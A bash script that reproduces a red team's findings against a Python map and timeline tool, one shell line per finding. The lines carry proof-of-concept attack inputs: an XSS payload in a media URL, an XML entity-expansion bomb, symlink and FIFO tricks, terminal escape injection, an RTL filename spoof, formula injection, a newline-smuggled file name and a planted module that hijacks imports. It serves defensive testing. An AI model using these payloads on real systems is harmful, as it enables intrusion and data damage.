#!/usr/bin/env bash
# One-line reproductions of the red-team findings (redteam/REPORT.md).
# Usage: cd <worktree> && bash redteam/repro.sh N      (N = finding number; each works in a fresh /tmp/rtN)
# Each line uses a private cache/state folder so that it never touches the user's own.
set -u
cd "$(dirname "$0")/.."
W=$PWD
export PYTHONPATH=$W/src QT_QPA_PLATFORM=offscreen
E="/work/main/.venv/bin/python -m explorer"
PY=/work/main/.venv/bin/python
n=${1:?finding number}
T=/tmp/rt$n; rm -rf "$T"; mkdir -p "$T"; export XDG_CACHE_HOME=$T/cache XDG_STATE_HOME=$T/state
B=$W/redteam/base   # the documented map example
case $n in
1)  $E validate resources/datasets/kuril && cp -r resources/datasets/kuril $T/twin && rm $T/twin/map/regions.geojson && mkfifo $T/twin/map/regions.geojson && timeout 10 $E list $T/twin; echo "exit $? (124 = hung on the FIFO)";;
2)  cp -r $B $T/ds && mkfifo $T/fifo && $E screenshot $T/ds -o $T/fifo && $E screenshot $T/ds -o $T/ds/dataset.toml; file $T/ds/dataset.toml $T/fifo;;
3)  cp -r $B $T/ds && sed -i "s|url = \"https://example.org/treaty\"|url = \"https://www.dailymotion.com/video/x'onload='alert(document.domain)//\"|" $T/ds/dataset.toml && $E export $T/ds --format timelinejs -o $T/t.json && grep -m1 -A1 '"media"' $T/t.json;;
4)  cp -r $B $T/ds && sed -i "s|date = \"1900-06-01\"|date = \"Y1$(printf '0%.0s' $(seq 5000))\"|" $T/ds/dataset.toml && EXPLORER_NO_CACHE=1 $E validate $T/ds 2>&1 | tail -1;;
5)  cp -r $B $T/ds && sed -i 's|geometry = "shapes.geojson"|geometry = "shapes\\u0000.geojson"|' $T/ds/dataset.toml && EXPLORER_NO_CACHE=1 $E validate $T/ds 2>&1 | tail -1;;
6)  cp -r $B $T/ds && sed -i 's|date = "1900-06-01"|date = "\\u001b]0;PWNED\\u0007"|' $T/ds/dataset.toml && $E screenshot $T/ds -o $T/x.png 2>&1 | od -c | grep -m1 033;;
7)  mkdir -m 1777 $T/tmp && echo mine > $T/victim && ln -s $T/victim $T/tmp/t.json && chown -h nobody $T/tmp/t.json && $E export $B --format timelinejs -o $T/tmp/t.json; head -c 40 $T/victim; echo;;
8)  $PY -c "import json,random;r=random.Random(1);f=[{'type':'Feature','id':'isle','geometry':{'type':'Polygon','coordinates':[[[10,45],[11,45],[11,46],[10,45]]]}},{'type':'Feature','id':'north-coast','geometry':{'type':'Polygon','coordinates':[[[9,46],[12,46],[12,47],[9,46]]]}},{'type':'Feature','id':'strait-line','geometry':{'type':'LineString','coordinates':[[9,46],[11,46]]}}]+[{'type':'Feature','id':'f%d'%i,'geometry':{'type':'Polygon','coordinates':[[[r.randint(-18,18),r.randint(-9,9)] for _ in range(60)]]}} for i in range(2000)];[x['geometry']['coordinates'][0].append(x['geometry']['coordinates'][0][0]) for x in f[3:]];import shutil;shutil.copytree('$B','$T/ds');open('$T/ds/shapes.geojson','w').write(json.dumps({'type':'FeatureCollection','features':f}))" && time $E screenshot $T/ds -o $T/m.png --size 1600x1000 --with-map;;
9)  $PY redteam/scale.py places 100000 $T/ds && /usr/bin/time -f "%es %MKB" $E screenshot $T/ds -o $T/p.png --select cession;;
10) echo "GUI: File > Export as TimelineJS…, type <dataset>/dataset.toml, confirm: the dataset file becomes JSON (tests/core/test_redteam_window.py)";;
11) cp -r $B $T/ds && $E export $T/ds/dataset.toml --format csv -o $T/ds/shapes.geojson && EXPLORER_NO_CACHE=1 $E validate $T/ds | tail -1;;
12) $PY -c "open('$T/b.timeline','wb').write(('<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE t [<!ENTITY a \"'+'a'*100+'\"><!ENTITY b \"'+'&a;'*50+'\"><!ENTITY c \"'+'&b;'*50+'\">]><timeline><events><event><start>1900-01-01 00:00:00</start><text>&c;</text></event></events></timeline>').encode('utf-16'))" && $E import $T/b.timeline -o $T/out && ls -la $T/out/events.toml;;
13) printf '{"events":[{"start_date":{"year":1900},"text":{"headline":"x"}}]}' > "$T/$(printf 'b\n[[event]]\nid = "zz.json')" && $E import "$T/$(printf 'b\n[[event]]\nid = "zz.json')" -o $T/out; head -3 $T/out/dataset.toml;;
14) $E validate $B >/dev/null && chmod 640 $T/state/explorer/cache.key && $PY -c "from explorer.core.loading import cache; print('group-readable key used:', cache._key() is not None)";;
15) echo "see tests/core/test_redteam_loader.py::test_redteam_the_parallel_helper_reads_a_dataset_given_by_a_relative_path (needs a >=16 MiB dataset opened by a relative path)";;
16) cp -r $B $T/ds && $PY -c "p='$T/ds/dataset.toml';t=open(p).read();open(p,'w').write(t.replace('summary = \"The Isle','summary = \"'+'word '*1900000+'The Isle'))" && EXPLORER_NO_CACHE=1 $E screenshot $T/ds -o $T/big.png; echo "exit $? (silent)";;
17) echo keep > $T/ro.json && chmod 444 $T/ro.json && setpriv --reuid=0 --inh-caps=-all --bounding-set=-all $E export $B --format timelinejs -o $T/ro.json; head -c 20 $T/ro.json; echo;;
18) cp -r $B $T/ds && echo "open('$T/RAN','w')" > $T/ds/hashlib.py && (cd $T/ds && $E validate . >/dev/null 2>&1); ls $T/RAN;;
19) cp -r $B $T/ds && sed -i 's|title = "Two parties and an island"|title = "Map \\u202etxt.exe"|' $T/ds/dataset.toml && $E screenshot $T/ds -o $T/b.png && echo "window title reads: Map exe.txt — (see tests/core/test_redteam_window.py)";;
20) cp -r $B $T/ds && sed -i "s|title = \"Northland cedes the Isle\"|title = \"'=on purpose\"|" $T/ds/dataset.toml && $E export $T/ds --format csv -o $T/t.csv && $E import $T/t.csv -o $T/back >/dev/null && $E list $T/back;;
21) cp -r $B $T/ds && sed -i 's|title = "Two parties and an island"|title = "Isle\\u001b]0;PWNED\\u0007"|' $T/ds/dataset.toml && $E export-cards $T/ds -o $T/c.pdf && pdfinfo $T/c.pdf | head -1 | od -c | grep -m1 033;;
22) echo draft > "$T/.out.json.draft v2.part" && touch -d '-10 min' "$T/.out.json.draft v2.part" && $E export $B --format timelinejs -o $T/out.json && ls -A $T;;
*)  echo "no finding $n";;
esac
